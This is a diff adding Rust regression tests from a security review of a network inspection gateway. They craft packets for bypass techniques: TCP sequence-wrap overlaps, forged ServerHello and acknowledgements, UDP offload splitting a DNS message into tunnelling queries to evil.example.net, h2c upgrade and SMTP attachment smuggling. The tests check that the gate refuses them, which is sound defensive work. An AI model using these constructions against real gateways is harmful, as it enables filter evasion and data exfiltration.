@@ -5,13 +5,16 @@
 //!
 //! - `finding_*`: a way around the inspection rule found in this review. Un-ignored, the
 //!   test holds the fix; `#[ignore = "finding: ..."]` marks one left open.
-//! - `held_*`: attacks that were already refused.
+//! - `held_*`: attacks that were already refused (or legitimate traffic that still passes).
+//!
+//! The tests after the divider "a second review" come from a second review, of the fixes for classes
+//! 37–42 themselves.
 
 mod common;
 
 use common::*;
 use sekisho_engine::Action::{Drop, Forward};
-use sekisho_engine::{Engine, Ingress, Now, Verdict};
+use sekisho_engine::{Engine, FrameMeta, Gso, Ingress, Now, Verdict};
 use sekisho_testkit::flags::*;
 use sekisho_testkit::*;
 
@@ -695,4 +698,447 @@ fn held_smtp_smuggling_and_pipelining_on_the_text_leg() {
     let mut pipelined = b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n".to_vec();
     pipelined.extend(ATTACHMENT);
     m.client_refused(&pipelined, "deny:app-mismatch");
+}
+
+// ---- a second review: the fixes above, attacked ---------------------------------------
+
+/// A ServerHello's start, to its random: not a retry.
+fn server_hello_start() -> Vec<u8> {
+    let mut sh = vec![0x16, 0x03, 0x03, 0x00, 0x7a, 0x02, 0x00, 0x00, 0x76, 0x03, 0x03];
+    sh.extend([0x11; 32]);
+    sh
+}
+
+/// A HelloRetryRequest record (RFC 8446 4.1.3).
+fn hello_retry_request() -> Vec<u8> {
+    let hrr_random: [u8; 32] = [
+        0xcf, 0x21, 0xad, 0x74, 0xe5, 0x9a, 0x61, 0x11, 0xbe, 0x1d, 0x8c, 0x02, 0x1e, 0x65, 0xb8, 0x91, 0xc2,
+        0xa2, 0x11, 0x16, 0x7a, 0xbb, 0x8c, 0x5e, 0x07, 0x9e, 0x09, 0xe2, 0xc8, 0xa8, 0x33, 0x9c,
+    ];
+    let mut body = vec![0x03, 0x03];
+    body.extend(hrr_random);
+    body.extend([0, 0x13, 0x01, 0, 0, 6, 0, 0x2b, 0, 2, 3, 4]);
+    let mut hs = vec![2];
+    hs.extend(&(body.len() as u32).to_be_bytes()[1..]);
+    hs.extend(body);
+    let mut hrr = vec![0x16, 0x03, 0x03];
+    hrr.extend((hs.len() as u16).to_be_bytes());
+    hrr.extend(hs);
+    hrr
+}
+
+/// `n` bytes of plain text lines.
+fn text(n: usize) -> Vec<u8> {
+    let line = b"plain text of the minutes, nothing attached.\r\n";
+    line.iter().copied().cycle().take(n).collect()
+}
+
+const CCS: [u8; 6] = [0x14, 0x03, 0x03, 0x00, 0x01, 0x01];
+
+// ---- findings -----------------------------------------------------------------------------
+
+/// Class 41 refuses a data segment that *starts* in the acknowledged part of the checked
+/// beginning — but one that starts a byte *before* the stream (at the SYN's own sequence
+/// number) and runs over the whole checked beginning was let through: its start, taken
+/// relative to the first data byte, wraps to 4 GiB. The receiver never got the decoy
+/// (its TTL died past the gate), so it takes every byte of the segment from its first
+/// data byte on: a hello for any name, unread. Fixed: a segment is refused when any of
+/// its bytes lies in the acknowledged checked beginning, wherever it starts.
+#[test]
+fn finding_a_segment_starting_before_the_stream_replaces_acknowledged_checked_bytes() {
+    let e = review_engine();
+    let c = breakout(&e, 51_400);
+    let start = c.c.client_next();
+    let good = hello(&[sni("portal.example.lg.jp")]);
+    // The decoy, TTL 2: both ports see it, the first internet router drops it.
+    let decoy = c.client_raw(ACK | PSH, start, 2, 0, &good);
+    crossing(&e, NOW, &decoy, &[(inside("lgwan"), BREAKOUT), (outside("internet"), BREAKOUT)]);
+    // The accomplice, as the cloud server: acknowledges the decoy, sends a ServerHello's start.
+    let acked = start.wrapping_add(good.len() as u32);
+    let sh = server_hello_start();
+    let forged = c.c.server_at(ACK | PSH, c.c.server_next(), acked, &sh);
+    c.server_crosses(&forged);
+    // The terminal acknowledges the forged record: every inspected byte is "delivered".
+    let ack = c.c.client_at(ACK, acked, c.c.server_next().wrapping_add(sh.len() as u32), b"");
+    c.client_crosses(&ack);
+    assert_eq!(e.inspection_stats().active, 0, "both states freed");
+    // At the decoy's place: refused (class 41).
+    let evil_hello = hello(&[sni("evil.example.net")]);
+    let evil = c.client_raw(ACK | PSH, start, 64, 0, &evil_hello);
+    expect(&e, NOW, inside("lgwan"), &evil, Drop, "deny:out-of-window");
+    // One byte earlier — the SYN's own number, which the receiver trims away: it takes the
+    // hello from its first data byte on.
+    let mut early = vec![0x00];
+    early.extend(&evil_hello);
+    let evil = c.client_raw(ACK | PSH, start.wrapping_sub(1), 64, 0, &early);
+    expect(&e, NOW, inside("lgwan"), &evil, Drop, "deny:out-of-window");
+    // Further back, within the window, too.
+    let mut earlier = vec![0x00; 600];
+    earlier.extend(&evil_hello);
+    let evil = c.client_raw(ACK | PSH, start.wrapping_sub(600), 64, 0, &earlier);
+    expect(&e, NOW, inside("lgwan"), &evil, Drop, "deny:out-of-window");
+    // Data after the checked beginning still flows.
+    let next = c.client_raw(ACK | PSH, acked, 64, 0, &[0x17, 0x03, 0x03, 0x00, 0x01, 0x00]);
+    crossing(&e, NOW, &next, &[(inside("lgwan"), BREAKOUT), (outside("internet"), BREAKOUT)]);
+}
+
+/// UDP segmentation offload (`VIRTIO_NET_HDR_GSO_UDP_L4`) turns one super-datagram into
+/// several datagrams after the gate, each `gso_size` bytes of its payload behind a copy of
+/// its headers. The gate checked the super-datagram as one DNS message — a query whose
+/// additional record holds 1,500 bytes — while the DNS server gets that query's first
+/// piece and then datagrams that are pieces of the record: any bytes (queries with
+/// tunnel-like names, counted by nobody), under `app = "dns"`. Fixed: a super-datagram of
+/// a flow whose datagrams are inspected is refused (`deny:fragment`: it is split after the
+/// gate like a fragmented one; a DNS client never segments its queries).
+#[test]
+fn finding_a_udp_super_datagram_is_checked_as_one_dns_message() {
+    let e = review_engine();
+    let mut query = dns_query(9, "portal.example.lg.jp", 1);
+    query[11] = 1; // one additional record: the rest of the datagram
+    let mut payload = query.clone();
+    payload.extend([0, 0, 16, 0, 1, 0, 0, 0, 0, 0x05, 0xdc]);
+    // What the pieces would be: another query each, for a name that tunnels data.
+    let tunnel = dns_query(10, "aGVsbG8gd29ybGQgZXhmaWx0cmF0aW9u.t.evil.example.net", 16);
+    while payload.len() < query.len() + 11 + 1500 {
+        payload.extend(&tunnel);
+    }
+    payload.truncate(query.len() + 11 + 1500);
+    let datagram = udp_datagram(40_600, 53, &payload);
+    let frame = ip_frame(LG_TERM, "198.18.40.53", 17, 64, &datagram);
+    let gso = FrameMeta { checksum_partial: true, checksum_at: Some((34, 6)), gso: Gso::Udp };
+    let v = e.process_meta(Now::at(NOW), inside("lgwan"), &frame, gso);
+    assert_eq!((v.action, name(&e, &v).as_str()), (Drop, "deny:fragment"));
+    // The same datagram without segmentation is one DNS message, as the server gets it.
+    let dns_rule = "allow:rule:lgwan-dns";
+    let whole = ip_frame(LG_TERM, "198.18.40.53", 17, 64, &udp_datagram(40_601, 53, &payload));
+    crossing(&e, NOW, &whole, &[(inside("lgwan"), dns_rule), (outside("sanitization"), dns_rule)]);
+    // A super-datagram of a flow whose service inspects nothing still crosses.
+    let mg = "allow:rule:mgmt-any";
+    let any = ip_frame("198.18.50.5", "198.18.40.20", 17, 64, &udp_datagram(40_602, 4433, &payload));
+    let v = e.process_meta(Now::at(NOW), inside("management"), &any, gso);
+    assert_eq!((v.action, name(&e, &v).as_str()), (Forward, mg));
+}
+
+/// After a first ClientHello for a listed name the client side waits for the server's
+/// answer: a HelloRetryRequest means a second hello, checked. But the "answer" is the
+/// first server bytes the gate inspects, and on α' any internet host can claim the cloud
+/// server's address: an accomplice sends the start of an ordinary ServerHello at the
+/// server's first byte, the terminal acknowledges it, and both directions are "done and
+/// delivered". The real server's HelloRetryRequest at the same place is refused (class
+/// 41) — but the terminal does not need it (a HelloRetryRequest without a cookie is
+/// predictable) — and its second ClientHello, for any name, crosses both ports unread to
+/// a server that asked for it.
+#[test]
+#[ignore = "finding: a forged, acknowledged ServerHello ends the client's check; the second ClientHello is not read"]
+fn finding_a_forged_server_hello_skips_the_second_client_hello_check() {
+    let e = review_engine();
+    let mut c = breakout(&e, 51_500);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    let server_first = c.c.server_next();
+    let sh = server_hello_start();
+    let forged = c.c.server_at(ACK | PSH, server_first, c.c.client_next(), &sh);
+    c.server_crosses(&forged);
+    let ack = c.c.client_at(ACK, c.c.client_next(), server_first.wrapping_add(sh.len() as u32), b"");
+    c.client_crosses(&ack);
+    assert_eq!(e.inspection_stats().active, 0, "both states freed");
+    // The real server's HelloRetryRequest: refused at the internet port.
+    let hrr = c.c.server_at(ACK | PSH, server_first, c.c.client_next(), &hello_retry_request());
+    expect(&e, NOW, inside("internet"), &hrr, Drop, "deny:out-of-window");
+    // The second hello, for another name.
+    let mut second = CCS.to_vec();
+    second.extend(hello(&[sni("evil.example.net")]));
+    let f = c.c.client_at(ACK | PSH, c.c.client_next(), server_first.wrapping_add(sh.len() as u32), &second);
+    expect(&e, NOW, inside("lgwan"), &f, Drop, "deny:app-mismatch");
+}
+
+/// Class 39 keeps a checked flow across a reload whose service names the same `app`. But
+/// what it was checked against may have changed: a reload that takes a name off
+/// `sni_allow` (an incident answer: "stop the breakout to that name") leaves the open TLS
+/// sessions to it running; one that turns `allow_connect` off leaves open CONNECT tunnels
+/// through the proxy running.
+#[test]
+fn finding_a_reload_that_narrows_what_an_app_allows_keeps_flows_checked_under_the_old_one() {
+    let wide = review_policy("http\"\nallow_connect = true\n#");
+    let e = Engine::new(policy(&wide));
+    let mut c = breakout(&e, 51_600);
+    c.client_passes(&hello(&[sni("files.example.com")]));
+    c.server_passes(&server_hello_start());
+    let mut t = Leg::open(&e, (LG_TERM, 51_601), (PROXY, 8080), ("lgwan", "sanitization"), WEB);
+    t.client_passes(b"CONNECT mail.example.net:25 HTTP/1.1\r\nHost: mail.example.net:25\r\n\r\n");
+    t.server_passes(b"HTTP/1.1 200 Connection established\r\n\r\n");
+    let narrow = review_policy("http").replace(
+        r#"sni_allow = ["portal.example.lg.jp", "*.example.com"]"#,
+        r#"sni_allow = ["portal.example.lg.jp"]"#,
+    );
+    assert!(!narrow.contains("*.example.com"));
+    e.reload(policy(&narrow)).unwrap();
+    // A new session to the name is refused ...
+    let mut n = breakout(&e, 51_602);
+    n.client_refused(&hello(&[sni("files.example.com")]), "deny:app-mismatch");
+    // ... the open ones are not: the session to the name and the tunnel both go on.
+    let tls = c.c.client(ACK | PSH, &[0x17, 0x03, 0x03, 0x00, 0x01, 0x00]);
+    let tls = e.process(Now::at(NOW), inside("lgwan"), &tls);
+    let tunnel = t.c.client(ACK | PSH, b"MAIL FROM:<x@lgwan>\r\n");
+    let tunnel = e.process(Now::at(NOW), inside("lgwan"), &tunnel);
+    let got = |v: &Verdict| (v.action, name(&e, v));
+    let cut = (Drop, "deny:app-mismatch".to_string());
+    assert_eq!((got(&tls), got(&tunnel)), (cut.clone(), cut));
+}
+
+/// The text leg keeps 128 KiB of inspected bytes until the LGWAN mail server acknowledges
+/// them; when that is full, acknowledged bytes are dropped — and a later segment over
+/// dropped bytes is not compared (they were "delivered"). But the acknowledgement is
+/// whatever arrives from the mail server's side, where a compromised LGWAN host can claim
+/// its address. A taken-over relay sends 60 KB of text that never reaches the server
+/// (the accomplice diverts it on the LGWAN segment, e.g. by ARP), the accomplice
+/// acknowledges it as the server, one more segment makes the gate drop it — and the relay
+/// sends other bytes in its place: the end of the message, a new transaction and a
+/// message with an executable attached, unread (class 41 while the check lives, on the
+/// leg that is checked to its end). Fixed: on an inspected stream, a segment carrying
+/// bytes that were inspected and dropped as acknowledged is refused
+/// (`deny:out-of-window`; a real receiver has them already).
+#[test]
+fn finding_a_forged_acknowledgement_on_the_text_leg_lets_dropped_bytes_be_replaced() {
+    let e = review_engine();
+    let mut m = text_leg(&e, 42_900, false);
+    m.client_passes(b"MAIL FROM:<relay@sanitization>\r\nRCPT TO:<staff@lgwan>\r\nDATA\r\n");
+    m.server_passes(b"250 ok\r\n250 ok\r\n354 go ahead\r\n");
+    m.client_passes(b"Subject: minutes\r\n\r\n");
+    // 70,000 bytes of text the server gets and acknowledges (kept: there is room).
+    for i in 0..50 {
+        m.client_passes(&text(1400));
+        if i % 10 == 9 {
+            let ack = m.c.server(ACK, b"");
+            m.server_crosses(&ack);
+        }
+    }
+    // The decoy: 60,200 bytes of text both ports inspect, diverted past the gate.
+    let decoy_at = m.c.client_next();
+    for _ in 0..43 {
+        m.client_passes(&text(1400));
+    }
+    assert_eq!(e.inspection_stats().active, 2, "one state per port, none full yet");
+    // The accomplice, as the mail server, acknowledges it.
+    let forged = m.c.server(ACK, b"");
+    m.server_crosses(&forged);
+    // One more segment: no room, so the acknowledged bytes are dropped.
+    m.client_passes(&text(1400));
+    // Other bytes where the decoy was: what the server gets first after the subject line.
+    let mut evil = b"\r\n.\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n".to_vec();
+    evil.extend(ATTACHMENT);
+    evil.extend(b".\r\n");
+    evil.extend(text(1400 - evil.len()));
+    let f = m.c.client_at(ACK | PSH, decoy_at, m.c.server_next(), &evil);
+    expect(&e, NOW, inside("sanitization"), &f, Drop, "deny:out-of-window");
+    // The text after it still flows.
+    m.client_passes(&text(1400));
+}
+
+/// Class 38 refuses the cleartext HTTP/2 preface where CONNECT is not allowed — as the
+/// first request. HTTP/1.1 reaches the same place another way: a first request asking to
+/// upgrade to h2c (RFC 7540 3.2), which the check reads as an ordinary GET; after the
+/// proxy's 101 the check is over, and the preface and a HEADERS frame whose `:method`
+/// is CONNECT cross unread. Fixed: where `allow_connect` is off, a request asking to
+/// upgrade to h2c is refused like the preface.
+#[test]
+fn finding_an_upgrade_to_h2c_reaches_http2_where_the_preface_is_refused() {
+    let e = review_engine();
+    let mut c = Leg::open(&e, (LG_TERM, 53_300), (PROXY, 8080), ("lgwan", "sanitization"), WEB);
+    c.client_refused(
+        b"GET http://portal.example.lg.jp/ HTTP/1.1\r\nHost: portal.example.lg.jp\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n",
+        "deny:app-mismatch",
+    );
+    // Other upgrades and ordinary requests are still read as before.
+    let mut ok = Leg::open(&e, (LG_TERM, 53_301), (PROXY, 8080), ("lgwan", "sanitization"), WEB);
+    ok.client_passes(b"GET http://portal.example.lg.jp/ HTTP/1.1\r\nHost: portal.example.lg.jp\r\nUpgrade-Insecure-Requests: 1\r\n\r\n");
+}
+
+/// Where server names are checked, the client's bytes after its first ClientHello wait
+/// for the server's answer — but they are forwarded while they wait. A terminal sends,
+/// right behind a hello for a listed name, a change-cipher-spec record and a second hello
+/// for another name: both ports forward it before any HelloRetryRequest exists, and a
+/// server that then asks for a retry reads the second hello already in its buffer. The
+/// gate reads it (and cuts the flow) only at the terminal's next data; the server's
+/// answers to it cross until then. Low: everything after needs the terminal's own data.
+#[test]
+#[ignore = "finding (low): bytes after the first ClientHello are forwarded before the server's answer says whether they must be checked"]
+fn finding_a_second_client_hello_sent_ahead_of_the_retry_reaches_the_server() {
+    let e = review_engine();
+    let mut c = breakout(&e, 51_700);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    let mut second = CCS.to_vec();
+    second.extend(hello(&[sni("evil.example.net")]));
+    let ahead = c.c.client(ACK | PSH, &second);
+    let at_lgwan = e.process(Now::at(NOW), inside("lgwan"), &ahead);
+    let at_internet = e.process(Now::at(NOW), outside("internet"), &ahead);
+    let hrr = c.c.server(ACK | PSH, &hello_retry_request());
+    c.server_crosses(&hrr);
+    // The server's ServerHello for the other name: still crosses.
+    let sh = c.c.server(ACK | PSH, &server_hello_start());
+    let sh_at_internet = e.process(Now::at(NOW), inside("internet"), &sh);
+    e.process(Now::at(NOW), outside("lgwan"), &sh);
+    // The terminal's next data: the flow is cut now.
+    c.client_refused(&[0x17, 0x03, 0x03, 0x00, 0x01, 0x00], "deny:app-mismatch");
+    let got = |v: &Verdict| (v.action, name(&e, v));
+    // Fixed, the second hello would wait at the first port for the server's answer.
+    assert_eq!(
+        (got(&at_lgwan), got(&at_internet), got(&sh_at_internet)),
+        (
+            (Drop, "deny:out-of-window".to_string()),
+            (Drop, "deny:out-of-window".to_string()),
+            (Drop, "deny:app-mismatch".to_string())
+        )
+    );
+}
+
+// ---- held -----------------------------------------------------------------------------------
+
+/// Class 42 against legitimate offload: the place of the checksum is counted from the
+/// frame's first byte as the data plane gets it — past an 802.1Q tag, past IPv6 extension
+/// headers — and a frame naming that place crosses; one counting without the tag, or
+/// naming the extension header, is refused.
+#[test]
+fn held_offloaded_frames_with_a_vlan_tag_or_ipv6_extension_headers() {
+    let text = format!(
+        "{}\n[[rule]]\nname = \"lgwan-dns6\"\nfrom = \"zone:lgwan\"\nto = \"2001:db8:40::53\"\nservice = \"dns\"\n",
+        POLICY.replace("inside = \"lg-in\"\n", "inside = \"lg-in\"\nvlans = [20]\n")
+    );
+    let e = Engine::new(policy(&text));
+    let partial = |start| FrameMeta { checksum_partial: true, checksum_at: Some((start, 6)), gso: Gso::None };
+    let verdict = |frame: &[u8], meta| {
+        let v = e.process_meta(Now::at(NOW), inside("lgwan"), frame, meta);
+        (v.action, name(&e, &v))
+    };
+    let query = dns_query(7, "portal.example.lg.jp", 1);
+    let tagged =
+        vlan(&ip_frame(LG_TERM, "198.18.40.53", 17, 64, &udp_datagram(40_700, 53, &query)), 0x8100, 20);
+    assert_eq!(verdict(&tagged, partial(34)), (Drop, "deny:malformed".into()), "counted without the tag");
+    assert_eq!(verdict(&tagged, partial(38)), (Forward, "allow:rule:lgwan-dns".into()));
+    // IPv6 with a destination options header (PadN) before the UDP header.
+    let mut opts = vec![17, 0, 1, 4, 0, 0, 0, 0];
+    opts.extend(udp_datagram(40_701, 53, &query));
+    let (src, dst) = ("2001:db8:20::5".parse().unwrap(), "2001:db8:40::53".parse().unwrap());
+    let v6 = vlan(&eth(0x86dd, &ipv6(src, dst, 60, 64, &opts)), 0x8100, 20);
+    assert_eq!(verdict(&v6, partial(58)), (Drop, "deny:malformed".into()), "the extension header");
+    assert_eq!(verdict(&v6, partial(66)), (Forward, "allow:rule:lgwan-dns6".into()));
+}
+
+/// Repeats of the checked beginning, from the legitimate side: a receiver's real
+/// acknowledgement lets data after it flow, before its first acknowledgement nothing is
+/// refused, and a segment that starts before the stream but ends before it (nothing of the
+/// checked beginning in it) is judged as before.
+#[test]
+fn held_repeats_of_checked_bytes_do_not_stall_the_other_direction() {
+    let e = review_engine();
+    let mut c = breakout(&e, 51_800);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    c.server_passes(&server_hello_start());
+    let ack = c.c.client(ACK, b"");
+    c.client_crosses(&ack);
+    let ack = c.c.server(ACK, b"");
+    c.server_crosses(&ack);
+    assert_eq!(e.inspection_stats().active, 0, "both states freed");
+    // The server's next bytes, and the client's, flow.
+    c.server_passes(&[0x16, 0x03, 0x03, 0x00, 0x01, 0x00]);
+    c.client_passes(&[0x17, 0x03, 0x03, 0x00, 0x01, 0x00]);
+    // A repeat of the server's acknowledged first bytes is refused ...
+    let first = c.c.server_at(ACK | PSH, 5001, c.c.client_next(), &server_hello_start());
+    expect(&e, NOW, inside("internet"), &first, Drop, "deny:out-of-window");
+    // ... a segment wholly before the stream (ending at the SYN's own number) is not.
+    let before = c.c.server_at(ACK | PSH, 4990, c.c.client_next(), b"0123456789");
+    c.server_crosses(&before);
+}
+
+/// Legitimate traffic refused: the checked beginning is the first `[inspect] depth` bytes
+/// after the initial sequence number — and sequence numbers wrap every 4 GiB. A long
+/// transfer (a download over α', a screen session) reaches the same numbers again, and
+/// its new segments there, sent before the receiver had acknowledged up to the wrap, were
+/// refused as repeats of the checked beginning (the offsets were compared unsigned: an
+/// acknowledgement just short of the wrap counted as "4 GiB in"). Fixed: offsets are
+/// compared signed.
+#[test]
+fn finding_a_transfer_past_four_gibibytes_was_refused_where_its_numbers_wrap() {
+    let e = review_engine();
+    let mut c = breakout(&e, 51_900);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    c.server_passes(&server_hello_start());
+    let ack = c.c.client(ACK, b"");
+    c.client_crosses(&ack);
+    let ack = c.c.server(ACK, b"");
+    c.server_crosses(&ack);
+    assert_eq!(e.inspection_stats().active, 0, "both states freed");
+    let first = 1001u32; // the client's initial sequence number plus one
+    let (server_seq, mut acked) = (c.c.server_next(), c.c.client_next());
+    let step = |frame: &[u8], hops: [Ingress; 2]| {
+        for at in hops {
+            let v = e.process(Now::at(NOW), at, frame);
+            assert_eq!((v.action, name(&e, &v).as_str()), (Forward, BREAKOUT));
+        }
+    };
+    let client_hops = [inside("lgwan"), outside("internet")];
+    let server_hops = [inside("internet"), outside("lgwan")];
+    // Each round: one byte at the far end of the window, acknowledged.
+    while acked.wrapping_sub(first) < u32::MAX - 200_000 {
+        let seq = acked.wrapping_add(65_534);
+        step(&c.c.client_at(ACK | PSH, seq, server_seq, b"x"), client_hops);
+        acked = seq.wrapping_add(1);
+        step(&c.c.server_at(ACK, server_seq, acked, b""), server_hops);
+    }
+    // Up to the wrap in full segments, then the first numbers again, none acknowledged yet.
+    let mut seq = acked;
+    while seq.wrapping_sub(first) > 0x8000_0000 || seq.wrapping_sub(first) < 4_000 {
+        step(&c.c.client_at(ACK | PSH, seq, server_seq, &[0x17; 1000]), client_hops);
+        seq = seq.wrapping_add(1000);
+        if seq.wrapping_sub(acked) > 60_000 {
+            acked = seq;
+            step(&c.c.server_at(ACK, server_seq, acked, b""), server_hops);
+        }
+    }
+}
+
+/// The other side of class 41: "a real receiver has these bytes already" holds only when
+/// the acknowledgement is real. An internet host that knows the connection's numbers (on
+/// the path, or told by an accomplice) claims the cloud server's address and acknowledges
+/// client bytes of the checked beginning that were lost past the gate: the client's
+/// retransmissions of them are refused for good, and the session stalls until it times
+/// out. Low: a denial of service that needs the sequence numbers.
+#[test]
+#[ignore = "finding (low, denial of service): a forged acknowledgement makes a lost segment of the checked beginning unrepeatable"]
+fn finding_a_forged_acknowledgement_makes_a_lost_segment_unrepeatable() {
+    let e = review_engine();
+    let mut c = breakout(&e, 52_000);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    c.server_passes(&server_hello_start());
+    let ack = c.c.client(ACK, b"");
+    c.client_crosses(&ack);
+    let ack = c.c.server(ACK, b"");
+    c.server_crosses(&ack);
+    assert_eq!(e.inspection_stats().active, 0, "both states freed");
+    // The client's Finished: both ports forward it, it is lost on the internet.
+    let at = c.c.client_next();
+    let finished = [0x17, 0x03, 0x03, 0x00, 0x05, 1, 2, 3, 4, 5];
+    c.client_passes(&finished);
+    // The forged acknowledgement, as the cloud server.
+    let forged = c.c.server_at(ACK, c.c.server_next(), c.c.client_next(), b"");
+    c.server_crosses(&forged);
+    // The client's retransmission: the server never had it.
+    let again = c.c.client_at(ACK | PSH, at, c.c.server_next(), &finished);
+    c.client_crosses(&again);
+}
+
+/// The other side of the narrowing fix: a reload that adds a name to `sni_allow` (the
+/// common change) keeps the open sessions to the names already listed.
+#[test]
+fn fixes_a_reload_that_widens_sni_allow_keeps_open_sessions() {
+    let e = review_engine();
+    let mut c = breakout(&e, 51_700);
+    c.client_passes(&hello(&[sni("portal.example.lg.jp")]));
+    c.server_passes(&server_hello_start());
+    let wider = review_policy("http").replace(
+        r#"sni_allow = ["portal.example.lg.jp", "*.example.com"]"#,
+        r#"sni_allow = ["portal.example.lg.jp", "*.example.com", "new.example.net"]"#,
+    );
+    assert!(wider.contains("new.example.net"));
+    e.reload(policy(&wider)).unwrap();
+    c.client_passes(&[0x17, 0x03, 0x03, 0x00, 0x01, 0x00]);
 }
